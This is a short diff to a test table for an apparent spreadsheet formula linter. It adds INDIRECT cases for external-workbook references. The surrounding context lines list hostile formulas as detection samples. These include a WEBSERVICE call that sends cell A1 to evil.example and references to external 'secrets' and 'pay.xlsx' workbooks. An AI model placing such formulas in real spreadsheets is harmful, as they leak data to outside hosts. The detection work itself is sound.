@@ -18,6 +18,8 @@ from workbooks.reader import open_workbook
     ("=[1]!Price", ["JZ030"]),
     ("='C:\\secrets\\[pay.xlsx]Sheet 1'!A1", ["JZ030"]),
     ("='../sec/[secret.xlsx]Sheet1'!A1+1", ["JZ030"]),
+    ("=INDIRECT(\"'/srv/[pay.xlsx]Sheet1'!A1\")", ["JZ030"]),
+    ('=INDIRECT("Sheet2!A1")', []),               # a reference in this workbook
     ('=WEBSERVICE("http://evil.example/?"&A1)', ["JZ033"]),
     ("=_xlfn.WEBSERVICE(A1)", ["JZ033"]),
     ('=hyperlink("http://evil.example","x")', ["JZ033"]),
